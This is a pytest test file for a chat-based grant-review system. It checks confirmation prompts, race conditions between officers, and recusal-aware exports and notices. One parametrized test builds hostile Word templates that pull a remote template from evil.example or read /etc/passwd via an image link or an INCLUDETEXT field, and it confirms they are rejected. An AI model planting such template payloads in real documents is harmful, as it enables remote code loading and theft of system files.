"""What an attacker found at the officer's desk: numbers that confirmed another thing, and what a recused person was sent."""

import zipfile
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta
from typing import Any

import pytest
import sqlalchemy as sa
from docx import Document

from handlers.inbox import take
from handlers.messages import Message
from scheduler.drawing import draw_due
from storage import handouts
from storage.columns import JSON
from storage.relations import ACT, ANNOUNCEMENT, ENTRY, OUTBOX, PERSON, REVIEW_EVENT, ROUND
from tests.brought import BROUGHT
from tests.official import saved
from tests.season import CLOSES, Season
from tests.test_hostile_tables import changed as rewritten
from tests.test_requesting import cells, followed, office
from tests.test_turn import broken

__all__ = ["office"]


def said(season: Season, who: str, *words: str, **how: Any) -> str:
    for one in words:
        answer = "\n".join(reply.text for reply in season.say(who, one, **how).replies)
    return answer


def rows(season: Season, what: sa.Select[Any]) -> list[Any]:
    with season.db.read() as db:
        return list(db.execute(what).all())


def given(name: str, data: bytes) -> str:
    """A file of that name from now on."""
    BROUGHT[name] = lambda: data
    return name


def paper(*lines: str) -> bytes:
    document = Document()
    for line in lines:
        document.add_paragraph(line)
    return saved(document)


def opened(season: Season, who: str) -> str:
    """Another round on the same table, of the fifth on the list."""
    season.join(who)
    return said(season, who, "开新一轮", "4", "1月30日17:30", "2")


def test_a_number_gives_time_in_the_round_it_was_shown_of(office: Season) -> None:
    said(office, "staff", "给全部延期三天")
    opened(office, "吴处长")
    assert "1月18日" in said(office, "staff", "2")
    given = rows(office, sa.select(ENTRY.c.round_id).where(ENTRY.c.extended_to.is_not(None)))
    assert [one.round_id for one in given] == [1, 1]
    assert broken(office) == []


def test_an_announcement_goes_out_in_the_round_it_was_shown_of(office: Season) -> None:
    said(office, "staff", "给全部发通知：明天停电")
    opened(office, "吴处长")
    said(office, "staff", "2")
    assert [one.round_id for one in rows(office, sa.select(ANNOUNCEMENT.c.round_id))] == [1]


def test_a_number_said_in_another_round_does_nothing(office: Season) -> None:
    opened(office, "吴处长")
    said(office, "staff", "轮次1，给全部延期三天")
    assert "没有执行" in said(office, "staff", "轮次2，2")
    assert rows(office, sa.select(ENTRY.c.id).where(ENTRY.c.extended_to.is_not(None))) == []
    said(office, "staff", "2")
    assert rows(office, sa.select(ENTRY.c.id).where(ENTRY.c.extended_to.is_not(None))) == []


def test_an_announcement_goes_to_those_who_were_shown(office: Season) -> None:
    """One hands in and another takes back: the number is the same, and they are not."""
    said(office, "staff", "给没提交的发通知：快交")
    said(office, "赵老师", "确认提交")
    said(office, "王老师", "撤回提交")
    said(office, "staff", "1")
    assert rows(office, sa.select(ANNOUNCEMENT.c.id)) == []


def test_a_number_typed_before_the_question_was_shown_does_nothing(office: Season) -> None:
    said(office, "staff", "结束本轮")
    assert "没有执行" in said(office, "staff", "1", hasty=True)
    assert rows(office, sa.select(ROUND.c.id).where(ROUND.c.closed_at.is_not(None))) == []
    assert "已结束" in said(office, "staff", "1")


def test_scores_are_not_final_by_a_number_that_was_meant_for_the_rest(office: Season) -> None:
    """«25» twice in a hurry: the second is no answer to what nobody has seen."""
    said(office, "staff", "评审 示例学会", "其余同意")
    said(office, "staff", "25", hasty=True)
    assert rows(office, sa.select(REVIEW_EVENT.c.id)) == []
    said(office, "staff", "25")
    assert len(rows(office, sa.select(REVIEW_EVENT.c.id))) == 25


def test_two_officers_do_not_open_the_same_round_twice_unasked(office: Season) -> None:
    office.join("吴处长")
    for who in ("staff", "吴处长"):
        said(office, who, "开新一轮", "4", "1月30日17:30")
    assert "已开始轮次2" in said(office, "staff", "2")
    assert "还没有再开" in said(office, "吴处长", "2")
    assert len(rows(office, sa.select(ROUND.c.id))) == 2
    assert "已开始轮次3" in said(office, "吴处长", "2")


@pytest.mark.parametrize("form", ["xlsx", "docx", "zip", "csv", "json"])
def test_who_is_recused_gets_nothing_of_it_in_any_form(office: Season, form: str) -> None:
    said(office, "staff", "回避 示例学会 亲属")
    told, [(_, path)] = followed(office, "staff", f"导出 {form}")
    assert "您回避的1家不在里面" in told
    if form == "xlsx":
        text = cells(path)
    elif zipfile.is_zipfile(path):
        with zipfile.ZipFile(path) as archive:
            text = "".join(archive.read(one).decode(errors="ignore") for one in archive.namelist())
    else:
        text = path.read_text(encoding="utf-8")
    assert "秘密的年会" not in text
    assert "浙江省示例学会" not in text


def test_what_is_all_recused_is_not_exported(office: Season) -> None:
    said(office, "staff", "回避 示例学会 亲属")
    told, files = followed(office, "staff", "导出 示例学会 zip")
    assert files == []
    assert "您回避的学会" in told


def test_who_is_recused_while_it_is_made_gets_nothing(office: Season) -> None:
    office.join("吴处长")
    taken = office.say("staff", "导出 示例学会 json")
    said(office, "吴处长", "回避 示例学会 周科长 亲属")
    draw_due(office.db, office.store, office.now)
    after = rows(office, sa.select(OUTBOX.c.files).where(OUTBOX.c.id > taken.replies[-1].id))
    assert [one.files for one in after if one.files] == []


def test_who_is_an_officer_no_more_while_it_is_made_gets_nothing_and_is_told(office: Season) -> None:
    taken = office.say("staff", "导出 json")
    with office.db.engine.begin() as db:
        db.execute(sa.update(PERSON).where(PERSON.c.name == "周科长").values(role="reviewer"))
    draw_due(office.db, office.store, office.now)
    [after] = rows(office, sa.select(OUTBOX.c.text, OUTBOX.c.files).where(OUTBOX.c.id > taken.replies[-1].id))
    assert after.files == []
    assert "不是管理人员了" in after.text


def test_a_consent_that_ended_before_the_making_veils(office: Season) -> None:
    said(office, "赵老师", "同意科协查看")
    taken = office.say("staff", "导出 json")
    said(office, "赵老师", "不再同意查看")
    draw_due(office.db, office.store, office.now)
    [row] = rows(
        office,
        sa.select(OUTBOX.c.files).where(
            OUTBOX.c.id > taken.replies[-1].id, OUTBOX.c.person_id.is_not(None), OUTBOX.c.files != sa.literal([], JSON)
        ),
    )
    with office.db.read() as db:
        held = handouts.file(db, row.files[0]["held"])
    assert held is not None
    assert "茶叶的秘密" not in office.store.path(held.sha256).read_text(encoding="utf-8")


def test_loops_within_loops_are_no_template(office: Season) -> None:
    given("loops.docx", paper("{{学会}}", "{% for 甲 in 表 %}" * 6 + "x" + "{% endfor %}" * 6))
    told = said(office, "staff", "模板", files=("loops.docx",))
    assert "还不能用" in told
    assert "表里再套表" in told


def test_a_table_within_a_loop_of_paragraphs_is_found_too(office: Season) -> None:
    document = Document()
    document.add_paragraph("{{学会}}{%p for 甲 in 表 %}")
    document.add_table(1, 1).cell(0, 0).text = "{% for 乙 in 表 %}x{% endfor %}"
    document.add_paragraph("{%p endfor %}")
    given("within.docx", saved(document))
    assert "表里再套表" in said(office, "staff", "模板", files=("within.docx",))


def final(season: Season) -> None:
    said(season, "staff", "评审 示例学会", "其余同意", "25", "核定 示例学会", "8", "公布核定 全部", "1")


def test_an_objection_is_not_told_to_who_has_been_recused(office: Season) -> None:
    final(office)
    office.join("吴处长")
    said(office, "吴处长", "回避 示例学会 周科长 亲属")
    said(office, "王老师", "申诉 第1项 秘密的理由")
    told = rows(
        office,
        sa.select(PERSON.c.name)
        .join(OUTBOX, OUTBOX.c.person_id == PERSON.c.id)
        .where(OUTBOX.c.kind == "notice", OUTBOX.c.text.like("%秘密的理由%")),
    )
    assert [one.name for one in told] == ["吴处长"]


def at_once(season: Season, said_by: dict[str, str]) -> list[str]:
    """Everybody says hers at the same moment; the answers."""
    messages = [
        Message("dialogue", who, f"at once {who}", words, seen=season.seen[who, "dialogue"])
        for who, words in said_by.items()
    ]
    with ThreadPoolExecutor(len(messages)) as pool:
        taken = list(pool.map(lambda one: take(season.db, one, season.now, premises=season.premises), messages))
    return ["\n".join(reply.text for reply in one.replies) for one in taken]


@pytest.mark.parametrize(
    ("before", "words", "number", "act"),
    [
        ([], ("核定 示例学会",), "8", "finalized"),
        (["核定 示例学会", "8"], ("公布核定 全部",), "1", "released_review"),
        ([], ("开新一轮", "4", "1月30日17:30"), "2", "round_opened"),
        ([], ("结束本轮",), "1", "round_closed"),
    ],
)
def test_two_officers_at_the_same_moment_do_it_once(
    office: Season, before: list[str], words: tuple[str, ...], number: str, act: str
) -> None:
    office.join("吴处长")
    said(office, "staff", "评审 示例学会", "其余同意", "25", *before)
    begun = len(rows(office, sa.select(ACT.c.id).where(ACT.c.act == act)))
    for who in ("staff", "吴处长"):
        said(office, who, *words)
    at_once(office, {"staff": number, "吴处长": number})
    assert len(rows(office, sa.select(ACT.c.id).where(ACT.c.act == act))) == begun + 1
    assert broken(office) == []


def test_time_that_two_officers_give_at_once_is_given_once(office: Season) -> None:
    office.join("吴处长")
    for who in ("staff", "吴处长"):
        said(office, who, "给全部延期三天")
    told = at_once(office, {"staff": "2", "吴处长": "2"})
    assert sorted("免得延了两次" in one for one in told) == [False, True]
    assert len(rows(office, sa.select(ACT.c.id).where(ACT.c.act == "extended"))) == 2


def test_other_scores_of_the_same_sum_are_not_what_was_confirmed(office: Season) -> None:
    office.join("陈评审")
    said(office, "staff", "评审 示例学会", "其余同意", "25", "核定 示例学会")
    said(office, "陈评审", "评审 示例学会 第1项", "7分 少一场", "评审 示例学会 第2项", "1分 有一次研讨")
    assert "看过再确认" in said(office, "staff", "8")
    assert rows(office, sa.select(ENTRY.c.id).where(ENTRY.c.finalized_at.is_not(None))) == []


def reaching(part: str, change: Callable[[bytes], bytes]) -> bytes:
    return rewritten(paper("{{学会}}"), part, change)


def related(kind: str, target: str) -> Callable[[bytes], bytes]:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    one = f'<Relationship Id="rId99" Type="{base}{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    return lambda part: part.replace(b"</Relationships>", one.encode())


FIELD = b'<w:instrText>INCLUDETEXT "file:///etc/passwd"</w:instrText>'


@pytest.mark.parametrize(
    ("data", "taken"),
    [
        (reaching("word/_rels/document.xml.rels", related("attachedTemplate", "http://evil.example/x.dotm")), False),
        (reaching("word/_rels/document.xml.rels", related("image", "file:///etc/passwd")), False),
        (reaching("word/document.xml", lambda part: part.replace(b"<w:t>", FIELD + b"<w:t>", 1)), False),
        (reaching("word/_rels/document.xml.rels", related("hyperlink", "https://zast.example/")), True),
    ],
    ids=["template", "image", "field", "hyperlink"],
)
def test_a_template_fetches_nothing(office: Season, data: bytes, taken: bool) -> None:
    given("out.docx", data)
    assert ("已启用" in said(office, "staff", "模板", files=("out.docx",))) is taken


def test_who_is_recused_neither_looks_at_late_words_nor_fills_in(office: Season) -> None:
    office.now = CLOSES + timedelta(minutes=1)
    said(office, "赵老师", "第2项 3分", "依据：迟到的秘密")
    assert "茶叶学会" in said(office, "staff", "逾期")
    said(office, "staff", "回避 茶叶学会 亲属")
    said(office, "staff", "逾期")
    for words in ("1", "算数 浙江省茶叶学会 平台故障", "代填 茶叶学会 会话第5项 3分 理由"):
        assert "您已回避" in said(office, "staff", words)


def test_a_round_ends_for_those_who_were_shown(office: Season) -> None:
    """One hands in and another takes back: as many are left, and they are not the same."""
    said(office, "staff", "结束本轮")
    said(office, "赵老师", "确认提交")
    said(office, "王老师", "撤回提交")
    assert "没有执行" in said(office, "staff", "1")
    assert rows(office, sa.select(ROUND.c.id).where(ROUND.c.closed_at.is_not(None))) == []


def test_a_round_is_not_begun_again_by_what_was_moved_a_week_ago(office: Season) -> None:
    office.join("吴处长")
    said(office, "staff", "结束本轮", "1", "重开本轮 到1月25日17:30 平台故障")
    office.now += timedelta(days=7)
    assert "确认请回复数字" not in said(office, "吴处长", "重开本轮")
    said(office, "吴处长", "1")
    assert rows(office, sa.select(ROUND.c.id).where(ROUND.c.closed_at.is_(None))) == []


@pytest.mark.parametrize(
    "words", [("结束本轮", "1"), ("开新一轮", "4", "1月30日17:30", "2"), ("给没提交的发通知：快", "1")]
)
def test_who_is_an_officer_no_more_confirms_nothing(office: Season, words: tuple[str, ...]) -> None:
    *asked, number = words
    said(office, "staff", *asked)
    with office.db.engine.begin() as db:
        db.execute(sa.update(PERSON).where(PERSON.c.name == "周科长").values(role="reviewer"))
    said(office, "staff", number)
    assert [one.closed_at for one in rows(office, sa.select(ROUND.c.closed_at))] == [None]
    assert rows(office, sa.select(ANNOUNCEMENT.c.id)) == []
